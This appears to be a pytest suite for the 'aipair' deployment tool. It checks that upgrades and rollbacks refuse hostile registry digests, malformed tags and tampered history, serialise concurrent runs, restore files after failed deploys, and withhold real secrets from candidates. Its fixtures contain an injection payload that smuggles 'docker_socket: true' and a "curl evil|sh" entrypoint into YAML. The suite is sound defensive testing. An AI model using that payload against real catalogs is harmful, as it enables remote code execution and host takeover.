"""`upgrade apply`, `rollback` and `upgrade validate` against hostile registries, concurrent runs,
failed deploys and untrusted candidates (issue 12: M3, M5, M6, M9).

No Docker engine: the registry is either a real OCI registry (Debian's docker-registry, as in
tests/helpers/registry.py) or, where a registry must misbehave, an in-process TEST DOUBLE.
"""

from __future__ import annotations

import http.server
import json
import os
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from aipair.catalog import load_catalog
from aipair.errors import Unavailable
from aipair.ops.upgrade.apply import HISTORY, ApplyError, change_image, replace_image

from ..helpers.commands import cli, interruptible
from ..helpers.registry import push, running_registry

GOOD = "sha256:" + "a" * 64


def catalog_text(address: str, *, flow: bool, quote: str = "") -> str:
    """web and cache at 1.0.0 from ``address``; ``web`` is a flow map or a block map, its image plain or
    quoted with ``quote``, with comments either way."""
    if flow:
        web = (
            f"  web: {{ layer: application, image: {quote}{address}/aipair/web:1.0.0{quote}, ports: [{{port: 8000}}],"
            " health: {type: tcp, port: 8000} }  # flow style\n"
        )
    else:
        web = (
            "  web:  # block style\n"
            "    layer: application\n"
            f"    image: {quote}{address}/aipair/web:1.0.0{quote}  # pinned by hand\n"
            "    ports: [{port: 8000}]\n"
            "    health: {type: tcp, port: 8000}\n"
        )
    return (
        "# hand-written catalog: comments must survive\n"
        "version: 1\n"
        "project:\n"
        "  name: up\n"
        "  domain: up.example.com\n"
        "  tls: {acme_email: o@up.example.com}\n"
        "secrets:\n"
        "  CACHE_PASSWORD: {generate: {length: 32, alphabet: hex}}\n"
        "  API_TOKEN: {supplied: true, description: token from the vendor}\n"
        "services:\n"
        f"{web}"
        "  cache:\n"
        "    layer: data\n"
        "    kind: stateful\n"
        f"    image: '{address}/aipair/cache:1.0.0'\n"
        "    ports: [{port: 6379}]\n"
        "    env: {PASSWORD: '${CACHE_PASSWORD}', TOKEN: '${API_TOKEN}'}\n"
        "    volumes: [{name: data, path: /data}]\n"
        "    health: {type: tcp, port: 6379}\n"
    )


def snapshot(root: Path) -> dict[str, bytes]:
    """Every file under ``root`` (locks aside) and its bytes."""
    return {
        str(p.relative_to(root)): p.read_bytes()
        for p in sorted(root.rglob("*"))
        if p.is_file() and not p.name.endswith(".lock")
    }


class HostileRegistryDouble:
    """TEST DOUBLE, named as such: a registry that answers every manifest HEAD with the
    ``Docker-Content-Digest`` it is told to send. No real registry sends a malformed digest, and
    that is the point: aipair must not trust it."""

    def __init__(self, digest: str) -> None:
        double = self
        self.digest, self.hits = digest, []

        class Handler(http.server.BaseHTTPRequestHandler):
            def log_message(self, *_: Any) -> None:
                pass

            def do_HEAD(self) -> None:
                double.hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "application/vnd.oci.image.manifest.v1+json")
                self.send_header("Docker-Content-Digest", double.digest)
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_GET = do_HEAD

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.address = f"127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def hostile() -> Iterator[HostileRegistryDouble]:
    double = HostileRegistryDouble(GOOD)
    yield double
    double.close()


# --- M3: the registry's digest and the operator's tag reach catalog.yaml only as one checked scalar ---

INJECTION = ", docker_socket: true, entrypoint: [sh, -c, 'curl evil|sh']"
HOSTILE_DIGESTS = [
    GOOD + INJECTION,  # extra keys in a flow map
    GOOD + " }" + INJECTION,  # closes the flow map
    GOOD + "}",
    GOOD + ",",
    GOOD + '"',  # ends a double-quoted scalar
    GOOD + "'",  # ends a single-quoted scalar
    GOOD + " # comment",
    GOOD + "\tdocker_socket: true",
    "sha256:" + "a" * 63,
    "sha256:" + "a" * 65,
    "sha256:" + "A" * 64,  # uppercase hex: not canonical (OCI: lowercase only)
    "sha512:" + "a" * 128,  # registered by OCI but optional; the catalog pins sha256 only
    "md5:" + "a" * 32,
    "sha256:" + "g" * 64,
    "sha256" + "a" * 64,
    "a" * 64,
]


STYLES = {"flow": (True, ""), "flow-quoted": (True, '"'), "block": (False, ""), "block-quoted": (False, "'")}


# Every digest through the whole command, the catalog layouts taken in turn (16 command runs, not 64): the
# digest rule does not depend on the layout (test_digest_check_in_images checks every digest against it), and
# test_any_change_besides_the_image_scalar_is_refused checks the backstop on each layout.
@pytest.mark.parametrize(
    ("digest", "style"), [(digest, list(STYLES)[index % len(STYLES)]) for index, digest in enumerate(HOSTILE_DIGESTS)]
)
def test_a_hostile_digest_is_refused_and_nothing_is_written(
    hostile: HostileRegistryDouble, tmp_path: Path, digest: str, style: str
) -> None:
    hostile.digest = digest
    flow, quote = STYLES[style]
    path = tmp_path / "catalog.yaml"
    path.write_text(catalog_text(hostile.address, flow=flow, quote=quote))
    before = snapshot(tmp_path)

    result = cli("upgrade", "apply", "web", "1.1.0", "--catalog", str(path), "--json")

    assert result.exit_code == 1, result.output
    assert hostile.hits, "the registry was asked"
    error = json.loads(result.stdout)["error"]
    assert "Docker-Content-Digest" in error and "sha256:" in error, error
    assert snapshot(tmp_path) == before  # catalog.yaml byte-identical, nothing rendered, nothing recorded


def test_a_good_digest_is_written_as_the_only_change(hostile: HostileRegistryDouble, tmp_path: Path) -> None:
    for style, (flow, quote) in STYLES.items():
        path = tmp_path / style / "catalog.yaml"
        path.parent.mkdir()
        original = catalog_text(hostile.address, flow=flow, quote=quote)
        path.write_text(original)
        result = cli("upgrade", "apply", "web", "1.1.0", "--unvalidated", "--catalog", str(path))
        assert result.exit_code == 0, result.output
        after = path.read_text()
        assert after == original.replace("aipair/web:1.0.0", f"aipair/web:1.1.0@{GOOD}")
        assert load_catalog(path).services["web"].docker_socket is False


HOSTILE_TAGS = [
    "1.1.0" + INJECTION,
    "1.1.0}",
    "1.1.0,",
    "1.1.0\n",
    "1.1.0\n    docker_socket: true",
    "1.1.0 # comment",
    '1.1.0"',
    "1.1.0'",
    "1.1.é",  # \w is wider than Docker's [A-Za-z0-9_] in Python
    "١٢٣",  # Arabic-Indic digits: \d in Python, not in a Docker tag
    "-1.1.0",
    ".1.1.0",
    "a" * 129,
    "1.1.0@" + GOOD,
    "",
]


@pytest.mark.parametrize("tag", HOSTILE_TAGS)
def test_a_tag_that_is_not_a_docker_tag_is_a_usage_error_before_any_request(
    hostile: HostileRegistryDouble, tmp_path: Path, tag: str
) -> None:
    path = tmp_path / "catalog.yaml"
    path.write_text(catalog_text(hostile.address, flow=True))
    before = snapshot(tmp_path)

    for command in ("apply", "validate"):
        result = cli("upgrade", command, "--catalog", str(path), "--json", "--", "web", tag)
        assert result.exit_code == 2, (command, result.output)
        assert "is not a valid Docker tag" in json.loads(result.stdout)["error"], result.output
    assert hostile.hits == []
    assert snapshot(tmp_path) == before


@pytest.mark.parametrize(
    "image",
    [
        "127.0.0.1:5000/aipair/web:1.1.0\n    docker_socket: true",
        f"127.0.0.1:5000/aipair/web:1.1.0@{GOOD}, docker_socket: true",
        "127.0.0.1:5000/aipair/web:1.1.0 }",
        "127.0.0.1:5000/aipair/web:é",
    ],
)
def test_change_image_refuses_an_image_that_is_not_a_reference(tmp_path: Path, image: str) -> None:
    """`rollback` takes its image from .aipair/upgrade-history.json: it is checked the same way."""
    path = tmp_path / "catalog.yaml"
    path.write_text(catalog_text("127.0.0.1:5000", flow=True))
    before = snapshot(tmp_path)
    with pytest.raises(ApplyError, match="not a valid image reference"):
        change_image(path, "web", image, record=True)
    assert snapshot(tmp_path) == before


@pytest.mark.parametrize("content", ["{not json", "[1, 2]", '{"service": "web"}', '[{"service": "web", "from": 3}]'])
def test_a_broken_history_file_is_an_error_not_a_traceback(tmp_path: Path, content: str) -> None:
    path = tmp_path / "catalog.yaml"
    path.write_text(catalog_text("127.0.0.1:5000", flow=True))
    (tmp_path / HISTORY).parent.mkdir()
    (tmp_path / HISTORY).write_text(content)
    before = snapshot(tmp_path)
    result = cli("rollback", "web", "--catalog", str(path), "--json")
    assert result.exit_code == 1, result.output
    assert "upgrade-history.json" in json.loads(result.stdout)["error"]
    assert snapshot(tmp_path) == before


def test_rollback_refuses_a_tampered_history_entry(tmp_path: Path) -> None:
    path = tmp_path / "catalog.yaml"
    path.write_text(catalog_text("127.0.0.1:5000", flow=True))
    history = tmp_path / HISTORY
    history.parent.mkdir()
    entry = {"service": "web", "from": "127.0.0.1:5000/aipair/web:1.0.0, docker_socket: true", "to": "x", "at": ""}
    history.write_text(json.dumps([entry]))
    before = snapshot(tmp_path)
    result = cli("rollback", "web", "--catalog", str(path), "--json")
    assert result.exit_code == 1 and "not a valid image reference" in json.loads(result.stdout)["error"]
    assert snapshot(tmp_path) == before


@pytest.mark.parametrize("flow", [True, False], ids=["flow", "block"])
@pytest.mark.parametrize(
    "edit",
    [
        # (what replace_image would have to have produced for each of these to get through)
        lambda text: text.replace("ports: [{port: 8000}]", "ports: [{port: 8000}], docker_socket: true", 1),
        lambda text: text.replace("    layer: data\n", "    layer: data\n    docker_socket: true\n", 1),
        lambda text: text.replace("kind: stateful", "kind: stateless", 1),
        lambda text: text.replace("name: up\n", "name: other\n", 1),
        lambda text: text.replace("aipair/cache:1.0.0", "aipair/cache:6.6.6", 1),
    ],
    ids=["flow-key", "block-key", "other-field", "project", "other-image"],
)
def test_any_change_besides_the_image_scalar_is_refused(tmp_path: Path, flow: bool, edit: Any) -> None:
    """Defence in depth: whatever replace_image produced is parsed again and compared with the original."""
    from aipair.ops.upgrade.apply import only_image_changed

    before = catalog_text("127.0.0.1:5000", flow=flow)
    image = f"127.0.0.1:5000/aipair/web:1.1.0@{GOOD}"
    after = replace_image(before, "web", image)
    only_image_changed(before, after, "web", image)  # the honest edit passes
    with pytest.raises(ApplyError, match="more than the image"):
        only_image_changed(before, edit(after), "web", image)
    with pytest.raises(ApplyError, match="more than the image"):
        only_image_changed(before, after, "web", f"127.0.0.1:5000/aipair/web:1.2.0@{GOOD}")


# --- M5: concurrent runs serialise on the catalog's lock; no change is lost ---

RACER = """
import os, sys, time
from pathlib import Path

# Widen the race window deterministically: every replacement of catalog.yaml waits a while first,
# so without a lock both runs read the original catalog before either writes its change.
real_replace = os.replace
def slow_replace(source, target, *args, **kwargs):
    if str(target).endswith("catalog.yaml"):
        time.sleep(1.5)
    return real_replace(source, target, *args, **kwargs)
os.replace = slow_replace

from aipair.cli import app

ready, go = Path(sys.argv[1]), Path(sys.argv[2])
ready.touch()
while not go.exists():
    time.sleep(0.01)
app(args=sys.argv[3:], prog_name="aipair")
"""


@pytest.fixture
def registry(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, dict[str, dict[str, str]]]]:
    """A real OCI registry with web and cache at 1.0.0 and 1.1.0."""
    with running_registry(tmp_path_factory.mktemp("registry")) as address:
        yield address, {name: push(address, f"aipair/{name}", ["1.0.0", "1.1.0"]) for name in ("web", "cache")}


def test_concurrent_applies_to_two_services_both_land(
    registry: tuple[str, dict[str, dict[str, str]]], tmp_path: Path
) -> None:
    address, digests = registry
    path = tmp_path / "catalog.yaml"
    path.write_text(catalog_text(address, flow=True))
    script = tmp_path / "racer.py"
    script.write_text(RACER)
    go = tmp_path / "go"
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
    runs = {
        service: subprocess.Popen(
            [
                sys.executable,
                str(script),
                str(tmp_path / f"ready-{service}"),
                str(go),
                "upgrade",
                "apply",
                service,
                "1.1.0",
                "--unvalidated",
                "--catalog",
                str(path),
                "--json",
            ],
            env=env,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        for service in ("web", "cache")
    }
    deadline = time.monotonic() + 60
    while not all((tmp_path / f"ready-{service}").exists() for service in runs):
        assert time.monotonic() < deadline, "the runs did not start"
        time.sleep(0.05)
    go.touch()
    outputs = {service: run.communicate(timeout=120) for service, run in runs.items()}
    for service, run in runs.items():
        assert run.returncode == 0, (service, outputs[service])

    catalog = load_catalog(path)
    for service in ("web", "cache"):
        assert catalog.services[service].image == f"{address}/aipair/{service}:1.1.0@{digests[service]['1.1.0']}"
    history = json.loads((tmp_path / HISTORY).read_text())
    assert sorted(entry["service"] for entry in history) == ["cache", "web"]
    rendered = (tmp_path / "compose" / "docker-compose.yml").read_text()
    assert rendered.count(":1.1.0@sha256:") == 2  # the last render saw both changes


# --- M6: a deploy that fails by an exception leaves the files as they were ---


class Boom(Exception):
    pass


@pytest.mark.parametrize(
    "failure",
    [Unavailable("cannot reach the Docker engine"), KeyboardInterrupt(), Boom("unexpected")],
    ids=["unavailable", "ctrl-c", "generic"],
)
@pytest.mark.parametrize("operation", ["apply", "rollback"])
def test_a_deploy_that_raises_puts_every_file_back(tmp_path: Path, failure: BaseException, operation: str) -> None:
    path = tmp_path / "catalog.yaml"
    path.write_text(catalog_text("127.0.0.1:5000", flow=True))
    assert cli("render", "--catalog", str(path)).exit_code == 0
    if operation == "rollback":
        change_image(path, "web", f"127.0.0.1:5000/aipair/web:1.1.0@{GOOD}", record=True)
    rendered = tmp_path / "compose" / "docker-compose.yml"
    rendered.write_text(rendered.read_text() + "# edited by hand since the last render\n")
    (tmp_path / "k8s").rename(tmp_path / "k8s-moved")  # files the render will create anew
    before = snapshot(tmp_path)
    calls: list[str] = []

    def deployer(updated: Any) -> bool:
        calls.append(updated.services["web"].image)
        raise failure

    with pytest.raises(type(failure)):
        if operation == "apply":
            change_image(path, "web", f"127.0.0.1:5000/aipair/web:1.2.0@{GOOD}", record=True, deploy=deployer)
        else:
            from aipair.ops.upgrade.apply import rollback

            rollback(path, "web", deploy=deployer)
    assert len(calls) == 1
    assert snapshot(tmp_path) == before  # catalog, rendered files and history byte-identical
    assert not (tmp_path / "k8s").exists()


def test_apply_deploy_without_an_engine_restores_the_catalog(hostile: HostileRegistryDouble, tmp_path: Path) -> None:
    """Through the CLI, with a real unreachable engine address: exit 3, the files as they were, rollback refuses."""
    path = tmp_path / "catalog.yaml"
    path.write_text(catalog_text(hostile.address, flow=False))
    assert cli("render", "--catalog", str(path)).exit_code == 0
    (tmp_path / "compose" / ".env").write_text("CACHE_PASSWORD=" + "b" * 32 + "\nAPI_TOKEN=t\n")
    before = snapshot(tmp_path)

    result = cli(
        "upgrade",
        "apply",
        "web",
        "1.1.0",
        "--unvalidated",
        "--deploy",
        "--host",
        "tcp://127.0.0.1:9",
        "--catalog",
        str(path),
        "--json",
    )
    assert result.exit_code == 3, result.output
    assert "put back" in json.loads(result.stdout)["error"]
    assert snapshot(tmp_path) == before
    assert cli("rollback", "web", "--catalog", str(path)).exit_code == 1  # nothing recorded, nothing to undo


def test_ctrl_c_during_apply_deploy_puts_every_file_back(hostile: HostileRegistryDouble, tmp_path: Path) -> None:
    """A real SIGINT to a real `aipair upgrade apply --deploy` process while its deploy waits for an engine
    that accepts the connection and never answers."""
    import signal
    import socket

    path = tmp_path / "catalog.yaml"
    path.write_text(catalog_text(hostile.address, flow=True))
    assert cli("render", "--catalog", str(path)).exit_code == 0
    (tmp_path / "compose" / ".env").write_text("CACHE_PASSWORD=" + "b" * 32 + "\nAPI_TOKEN=t\n")
    before = snapshot(tmp_path)
    silent = socket.create_server(("127.0.0.1", 0))  # an engine that never answers
    host = f"tcp://127.0.0.1:{silent.getsockname()[1]}"
    run = subprocess.Popen(
        [sys.executable, "-m", "aipair", "upgrade", "apply", "web", "1.1.0", "--deploy", "--host", host]
        + ["--unvalidated", "--catalog", str(path)],
        env={**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)},
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        preexec_fn=interruptible,
    )
    try:
        silent.settimeout(60)
        connection, _ = silent.accept()  # the deploy is under way: the catalog has been changed
        assert path.read_bytes() != before["catalog.yaml"]
        run.send_signal(signal.SIGINT)
        _, stderr = run.communicate(timeout=60)
        connection.close()
    finally:
        silent.close()
        if run.poll() is None:
            run.kill()
    assert run.returncode == 130, stderr  # Typer's exit code for Ctrl-C, as for every command
    assert "interrupted" in stderr and "Traceback" not in stderr, stderr
    assert snapshot(tmp_path) == before


# --- M9: the candidate gets throw-away secrets, never the platform's ---


def test_validation_hands_the_candidate_only_throwaway_secrets(
    tmp_path: Path, compose_binary: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from aipair.ops.upgrade.validate import prepare_project

    path = tmp_path / "catalog.yaml"
    path.write_text(
        catalog_text("127.0.0.1:5000", flow=True).replace("    env: {", "    env: {SAME: '${CACHE_PASSWORD}', ")
    )
    real_password, real_token = "f" * 32, "real-vendor-token-0123456789"
    real_env = tmp_path / "compose" / ".env"
    real_env.parent.mkdir()
    real_env.write_text(f"CACHE_PASSWORD={real_password}\nAPI_TOKEN={real_token}\n")
    before = real_env.read_bytes()
    # The deployer's shell holds the same names, and points Compose at the real file: neither may reach it.
    monkeypatch.setenv("CACHE_PASSWORD", real_password)
    monkeypatch.setenv("API_TOKEN", real_token)
    monkeypatch.setenv("COMPOSE_ENV_FILES", str(real_env))
    monkeypatch.setenv("AIPAIR_UNRELATED_SECRET", "shell-secret-xyz")

    workdir = tmp_path / "trial"
    workdir.mkdir()
    catalog = load_catalog(path)
    project, _document = prepare_project(catalog, "cache", "1.1.0", workdir, host=None)
    config = project.run("config", "--format", "json")
    assert config.returncode == 0, config.stderr
    assert project.name == json.loads(config.stdout)["name"] == "up-validate-cache"  # its own project, always
    handed = json.dumps(json.loads(config.stdout)) + "".join(p.read_text() for p in workdir.rglob("*") if p.is_file())
    assert real_password not in handed and real_token not in handed
    assert real_env.read_bytes() == before  # the platform's file is not touched either
    for variable in ("CACHE_PASSWORD", "API_TOKEN", "COMPOSE_ENV_FILES", "AIPAIR_UNRELATED_SECRET"):
        assert variable not in project.env(), variable

    environment = json.loads(config.stdout)["services"]["cache"]["environment"]
    password = environment["PASSWORD"]
    assert len(password) == 32 and set(password) <= set("0123456789abcdef")  # the same rules, a fresh value
    assert environment["SAME"] == password  # one throw-away value per name
    assert environment["TOKEN"] == ""  # supplied secrets are not handed over at all
    assert oct((workdir / ".env").stat().st_mode & 0o777) == "0o600"

    again, _ = prepare_project(catalog, "cache", "1.1.0", tmp_path / "again", host=None)
    second = json.loads(again.run("config", "--format", "json").stdout)["services"]["cache"]["environment"]
    assert second["PASSWORD"] != password  # fresh each time


def test_validation_never_mounts_the_docker_socket_into_the_candidate(tmp_path: Path) -> None:
    from aipair.ops.upgrade.validate import prepare_project

    path = tmp_path / "catalog.yaml"
    path.write_text(
        catalog_text("127.0.0.1:5000", flow=False).replace(
            "    kind: stateful\n", "    kind: stateful\n    docker_socket: true\n"
        )
    )
    workdir = tmp_path / "trial"
    workdir.mkdir()
    _, document = prepare_project(load_catalog(path), "cache", "1.1.0", workdir, host=None)
    assert all(m["type"] != "bind" for m in document["services"]["cache"].get("volumes", []))
    assert "ports" not in document["services"]["cache"]


def test_digest_check_in_images() -> None:
    from aipair.catalog.images import check_digest

    assert check_digest(GOOD) == GOOD
    for bad in [*HOSTILE_DIGESTS, GOOD + "\n", GOOD + "\n    docker_socket: true", " " + GOOD]:
        with pytest.raises(ValueError):
            check_digest(bad)
